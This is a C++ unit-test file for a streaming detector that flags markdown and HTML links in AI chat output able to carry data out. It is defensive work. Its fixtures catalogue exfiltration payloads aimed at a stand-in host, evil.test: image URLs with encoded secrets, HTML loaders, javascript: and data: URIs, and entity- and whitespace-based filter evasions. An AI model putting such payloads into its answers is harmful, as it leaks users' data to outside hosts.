// What carries data out of an answer is found, whole and in pieces, and what chats write is not.
#include "controls/content/links.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <cstdint>
#include <random>
#include <string>
#include <string_view>
#include <vector>

namespace tollgate::content {
namespace {

const std::vector<std::string> kAllowed = {"docs.example.com", "*.trusted.example"};

struct Read {
  std::vector<StreamMatch> found;
  bool is_sound = true;  // No byte of a match was decided before it was known.
  std::size_t held_most = 0;
};

Read read(std::string_view text, std::size_t step) {
  Read made;
  LinkReader reader(kAllowed);
  std::size_t gone = 0;
  const auto take = [&](std::size_t known) {
    for (std::size_t i = known; i < made.found.size(); ++i) {
      made.is_sound = made.is_sound && made.found[i].extent.begin >= gone;
    }
    EXPECT_GE(reader.decided(), gone);
    gone = reader.decided();
    made.held_most = std::max(made.held_most, reader.size() - gone);
  };
  for (; !text.empty(); text.remove_prefix(std::min(step, text.size()))) {
    const std::size_t known = made.found.size();
    reader.read(text.substr(0, step), made.found);
    take(known);
  }
  const std::size_t known = made.found.size();
  reader.end(made.found);
  take(known);
  return made;
}

// `|` begins and ends what is found, in pieces of any size; nothing else is.
enum class Extents : std::uint8_t { kBoth, kBegin };
void expect_found(std::string text, std::string_view rule, Extents extents = Extents::kBoth) {
  SCOPED_TRACE(text);
  const std::size_t begin = text.find('|');
  text.erase(begin, 1);
  const std::size_t end = text.find('|');
  text.erase(end, 1);
  for (std::size_t step = 1; step <= text.size(); ++step) {
    const Read found = read(text, step);
    ASSERT_EQ(found.found.size(), 1U) << step;
    EXPECT_EQ(found.found[0].rule, rule);
    EXPECT_EQ(found.found[0].extent.begin, begin);
    if (extents == Extents::kBoth) EXPECT_EQ(found.found[0].extent.end, end);
    EXPECT_TRUE(found.is_sound) << step;
  }
}

TEST(Links, ThatCarryDataAreFound) {
  const struct {
    std::string text;
    std::string_view rule;
  } rows[] = {
      {"Done. ![x](|https://evil.test/a.png?d=c2VjcmV0|) More.", "links.image"},
      {"![x](|//evil.test/a.png?d=1| \"title\")", "links.image"},
      {"![a [b] c](|HTTPS://evil.test?q=1|)", "links.image"},
      {"![x]( <|https://evil.test/? a b|>)", "links.image"},
      {"![x](|https://evil.test/c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0c2Vj.png|)", "links.image"},
      {"![x](|https://c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0c2Vj.evil.test/|)", "links.image"},
      {"![x](|https://docs.example.com@evil.test/a?b=c|)", "links.image"},
      {"![x](|https://secret@docs.example.com/a|)", "links.image"},
      {"![x](|https://evil.test/\\?q=1|)", "links.image"},
      {"![x][ref]\n\n[ref]: |https://evil.test/p.gif?data=1|\n", "links.image"},
      {"[ref]: <|https://evil.test/p.gif?data=1|>", "links.image"},
      {"<img src=\"|https://evil.test/p?x=1|\">", "links.image"},
      {"<IMG alt='>' SRC = |https://evil.test/p?x=1|>", "links.image"},
      {"<img src='|https:\\\\evil.test/p?x=1|'>", "links.image"},
      {"<iframe src=|//evil.test/?x=1| >", "links.image"},
      {"<p><td style=\"|background: url(https://evil.test/?x=1)|\">", "links.image"},
      {"<meta http-equiv=refresh content=\"|0;url=https://evil.test/?x=1|\">", "links.image"},
      {"<link rel=stylesheet href=\"|https://evil.test/?x=1|\">", "links.image"},
      {"[click here](|https://evil.test/?d=c2VjcmV0c2VjcmV0c2Vj|)", "links.link"},
      {"<a href=\"|https://evil.test/?d=c2VjcmV0c2VjcmV0c2Vj|\">", "links.link"},
      {"<|https://evil.test/?d=c2VjcmV0c2VjcmV0c2Vj|>", "links.link"},
      {"[click](|https://user:c2VjcmV0@evil.test/|)", "links.link"},
      {"![x](|https://evil.test/[REDACTED:secrets.jwt#1]|)", "links.image"},
      {"<img src=\"|//evil.test/a[REDACTED:pii.email#2].png|\">", "links.image"},
      {"[click](|https://evil.test/[REDACTED:pii.email#12]|)", "links.link"},
      {"[click](|JavaScript:alert(1)|)", "links.script"},
      {"[click](|java&#115;cript:alert(1)|)", "links.script"},
      {"[click](|https&colon;//evil.test/|)", "links.script"},
      {"<a href=\"|java\nscript:alert(1)|\">", "links.script"},
      {"[click](|data:text/html;base64,PHNjcmlwdD4=|)", "links.script"},
      {"![x](|data:image/svg+xml;base64,PHN2Zz4=|)", "links.script"},
  };
  for (const auto& row : rows) expect_found(row.text, row.rule);
}

// An address that never ends is none, and what stands in it is read by a renderer.
TEST(Links, AreFoundWithinWhatNeverEnds) {
  for (const std::string before : {"[a](b", "![x](", "![x](<", "[a](b\"", "[a](<b\n\n", "[a](b!",
                                   "<a href=\"b ", "<a href='b\n\n", "[a](b[c](d", "[a](<b[c](<d",
                                   "![x [a](b ", "<img src=\"c\n\n<a href=\"", "[a](//b"}) {
    expect_found(before + "![x](|https://evil.test/p.png?d=1|)", "links.image");
    expect_found(before + "\n[r]: |https://evil.test/p.png?d=1|\n", "links.image");
  }
  for (const std::string before : {"<a href=\"b ", "<a ping=\"b\n\n", "<img src=\"<a href=\""}) {
    expect_found(before + "<img src='|https://evil.test/p.png?d=1|'>", "links.image");
    expect_found(before + "<img alt='' srcset='|https://evil.test/p.png?d=1|'>", "links.image");
    expect_found(before + "<|https://evil.test/?d=c2VjcmV0c2VjcmV0c2Vj|>", "links.link");
  }
  expect_found("[a](b[x](|https://evil.test/?d=c2VjcmV0c2VjcmV0c2Vj|)", "links.link");
  // What has brackets in it is one, too.
  expect_found("![x](|https://evil.test/a](?d=1)|)", "links.image");
  expect_found("![x](|https://evil.test/a](b](c](d](e](?d=1)))))|)", "links.image",
               Extents::kBegin);
}

// Signs within an address that end it only where they are no part of it.
TEST(Links, AreReadToTheirEnd) {
  for (const std::string sign : {"\\)", "(a)", ">", "<", "\\(", "\\\\", "\""}) {
    expect_found("![x](|https://evil.test/p" + sign + "?d=1|)", "links.image");
  }
  for (const std::string sign : {")", "(", "\\>", " ", "\n", "\\\\"}) {
    expect_found("![x](<|https://evil.test/p" + sign + "?d=1|>)", "links.image");
  }
  expect_found("<img src=|https://evil.test/p<?d=1|>", "links.image");
  expect_found("<img src=|https://evil.test/p\v?d=1|>", "links.image");
  expect_found("<img src=a\fsrcset=|https://evil.test/p?d=1|>", "links.image");
}

TEST(Links, AreFoundWithEntitiesInThem) {
  for (const std::string query : {"&#63;", "&#x3f;", "&#X3F;", "&quest;", "&#0000000000000000063;",
                                  "&#x00000000000000003F;", "?&amp;num;", "?a&num;"}) {
    expect_found("![x](|https://evil.test/p" + query + "d=c2Vj|)", "links.image");
    expect_found("![x](<|https://evil.test/p" + query + "d=c2Vj|>)", "links.image");
    expect_found("[r]: |https://evil.test/p" + query + "d=c2Vj|\n", "links.image");
    expect_found("<img src=\"|https://evil.test/p" + query + "d=c2Vj|\">", "links.image");
    expect_found("<img srcset='|https://evil.test/p" + query + "d=c2Vj 2x|'>", "links.image");
    expect_found("[x](|https://evil.test/p" + query + "d=c2VjcmV0c2VjcmV0c2Vj|)", "links.link");
  }
  for (const std::string slash : {"&#47;", "&#x2f;", "&sol;", "&bsol;", "&#92;", "&Tab;/"}) {
    expect_found("![x](|https://evil.test" + slash + "p?d=1|)", "links.image");
    expect_found("<img src=\"|https://evil.test" + slash + "p?d=1|\">", "links.image");
    expect_found("<img src=\"|/" + slash + "evil.test/p?d=1|\">", "links.image");
    expect_found("![x](|https:" + slash + "/evil.test/p?d=1|)", "links.image");
    expect_found("![x](|https://evil.test" + slash + "a.trusted.example/p?d=1|)", "links.image");
    expect_found("![x](|https://evil.test" + slash + ".trusted.example/p?d=1|)", "links.image");
  }
  expect_found("![x](|https://docs.example.com&commat;evil.test/?d=1|)", "links.image");
  expect_found("![x](|https://docs.example.com&amp;sol;@evil.test/?d=1|)", "links.image");
  expect_found("<img src=|https://evil.test/p&#63d=1|>", "links.image");
}

// However much of it there is, and of whatever kind.
TEST(Links, AreFoundBehindWhiteSpace) {
  const std::string address = "|https://evil.test/p.png?d=1|";
  for (const std::string& gap :
       {std::string(70, ' '), std::string(300, '\t'), " \n " + std::string(100, ' '),
        std::string("\f\v"), std::string("\u00a0"), std::string("\u2003 \u3000\ufeff")}) {
    for (const std::string before : {"![x](", "![x](<", "[r]:", "[r]: <"}) {
      expect_found(before + gap + address + " \"title\")", "links.image", Extents::kBegin);
    }
  }
  for (const std::string& gap :
       {std::string(70, ' '), std::string(300, '\n'), std::string("\f"), std::string("\v \x01")}) {
    expect_found("<img src=" + gap + "\"" + address + "\">", "links.image");
    expect_found("<img src=\"" + gap + address + "\">", "links.image");
    expect_found("<img src=" + gap + address + " >", "links.image");
  }
  expect_found("<img\fsrc=\"" + address + "\">", "links.image");
  expect_found("<img src\f=\"" + address + "\">", "links.image");
  expect_found("> [r]:\n> " + address + "\n", "links.image");
  EXPECT_EQ(read("![x](" + std::string(10'000, ' '), 1).held_most, 0U);
  EXPECT_EQ(read("<img src=" + std::string(10'000, ' '), 1).held_most, 0U);
  EXPECT_TRUE(read("[\u6ce8]: \u3000\u65e5\u672c https://evil.test/p.png?d=1", 1).found.empty());
}

TEST(Links, AreFoundInEveryAttributeThatLoads) {
  for (const std::string tag :
       {"link rel=preload as=image imagesrcset", "body background", "th background", "img lowsrc",
        "object data", "image xlink:href", "use href", "feImage href", "div style", "h1 style",
        "applet archive", "animate attributeName=href to", "animate attributeName=href values",
        "bgsound src", "html manifest", "rect fill", "iframe srcdoc"}) {
    expect_found("<" + tag + "=\"|https://evil.test/p?d=1|\">", "links.image");
  }
  for (const std::string tag : {"button formaction", "a ping", "a xlink:href", "form action"}) {
    expect_found("<" + tag + "=\"|https://evil.test/?d=c2VjcmV0c2VjcmV0c2Vj|\">", "links.link");
  }
}

// What looks like the text of a link may be that of an image.
TEST(Links, AreImagesWhereOneIsOpen) {
  for (const std::string before : {"![a \\[b](", "![a [b](", "[q ![a \\] b]("}) {
    expect_found(before + "|https://evil.test/p.png?d=1|)", "links.image");
  }
}

TEST(Links, ThatCarryNothingAreNot) {
  const std::string_view texts[] = {
      "See [the manual](https://www.example.org/guide/install.html#step-2).",
      "![a cat](https://images.example.org/2024/10/cat.png) and ![](/local.png?v=2)",
      "![logo](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk)",
      "![chart](https://docs.example.com/render?from=2024&to=2025&series=all)",
      "![chart](https://a.trusted.example:8443/render?from=2024)",
      "![chart](https://a.trusted.example/[REDACTED:pii.email#1])",
      "[video](https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s)",
      "[mail](mailto:someone@example.org?subject=Hello%20there%20and%20more)",
      "[1]: https://www.rfc-editor.org/rfc/rfc9110.html\n[2]: #notes",
      "if (a <b && c> d) { x[i](y); map[k]: v; return f<T>(z); }",
      "<a href='https://www.example.org/a/b'>text</a> <img src=\"cat.png?size=2\">",
      "const [a, b]: [string, number] = tuple; // see https://x.test/?q=0123456789abcdef012345",
      "array[0](x) and a ]( and [x]() and <> and < a and <3 and [x](",
  };
  for (const std::string_view text : texts) {
    SCOPED_TRACE(text);
    for (std::size_t step = 1; step <= text.size(); ++step) {
      EXPECT_TRUE(read(text, step).found.empty()) << step;
    }
  }
}

// Put together and cut at random.
TEST(Links, AreTheSameForAnyTextAndAnyCuts) {
  std::mt19937_64 random{31};
  const std::string_view parts[] = {"![",
                                    "[",
                                    "](",
                                    "]:",
                                    "](<",
                                    ")",
                                    ">",
                                    "<",
                                    "<img ",
                                    "<a ",
                                    "src=",
                                    "href=",
                                    "\"",
                                    "'",
                                    " ",
                                    "\n",
                                    "\\",
                                    "/",
                                    "//",
                                    "https://",
                                    "evil.t",
                                    "?d=1",
                                    "&#63;",
                                    "&sol;",
                                    "a.trusted.example",
                                    "docs.example.com/",
                                    "\u00a0",
                                    "x",
                                    "style=",
                                    "<https",
                                    ":",
                                    "&",
                                    "#",
                                    "\f",
                                    "javascript:"};
  for (int round = 0; round < 20'000; ++round) {
    std::string text;
    for (std::size_t part = 0; part < 1 + random() % 24; ++part) {
      text += parts[random() % std::size(parts)];
    }
    SCOPED_TRACE(text);
    const Read whole = read(text, text.size());
    for (const std::size_t step : {std::size_t{1}, 2 + random() % 7}) {
      const Read pieces = read(text, step);
      ASSERT_TRUE(pieces.is_sound);
      ASSERT_EQ(pieces.found.size(), whole.found.size());
      for (std::size_t i = 0; i < whole.found.size(); ++i) {
        ASSERT_EQ(pieces.found[i].rule, whole.found[i].rule);
        ASSERT_EQ(pieces.found[i].extent.begin, whole.found[i].extent.begin);
        ASSERT_EQ(pieces.found[i].extent.end, whole.found[i].extent.end);
      }
    }
  }
}

TEST(Links, OfAllowedHostsDoNotWaitForTheirEnd) {
  const Read read_all =
      read("![chart](https://docs.example.com/render?from=2024&to=2025&series=all&more=of-it)", 1);
  EXPECT_LE(read_all.held_most, std::string_view("https://docs.example.com/").size());
  EXPECT_EQ(read("plain text, [brackets] and (more) and a < b", 1).held_most, 0U);
}

TEST(Links, AreReadToABound) {
  for (const std::string& begin :
       {std::string("![x](https://evil.test/"), std::string("<img style=\""), std::string("![x]("),
        std::string("![x](//a![x](//b![x](//c![x](//d![x](//e"), std::string("![x](&#63;")}) {
    const Read found = read(begin + std::string(100'000, 'a'), 7);
    EXPECT_LE(found.held_most, LinkReader::kAddressMax + 16);
    EXPECT_TRUE(found.is_sound);
  }
  // What a browser leaves out is held to a bound, too, and hides nothing.
  for (const std::string begin : {"<img src=\"https:", "![x](<https:", "[x](https:", "![x](<"}) {
    const std::string left_out(100'000, begin.front() == '[' ? '\\' : '\n');
    const Read found = read(begin + left_out + "//evil.test/?d=1\">)", 7);
    EXPECT_LE(found.held_most, LinkReader::kWrittenMax + 16);
    EXPECT_EQ(found.found.size(), 1U) << begin;
    EXPECT_TRUE(found.is_sound);
  }
  EXPECT_LE(read("<img src=\"" + std::string(100'000, '\\'), 1).held_most, 4'096U);
  EXPECT_EQ(read("![x](https://evil.test/" + std::string(5'000, 'a'), 1).found.size(), 1U);
  EXPECT_EQ(read(std::string(100'000, '[') + "](https://evil.test/?x=1)", 9).found.size(), 1U);
}

}  // namespace
}  // namespace tollgate::content
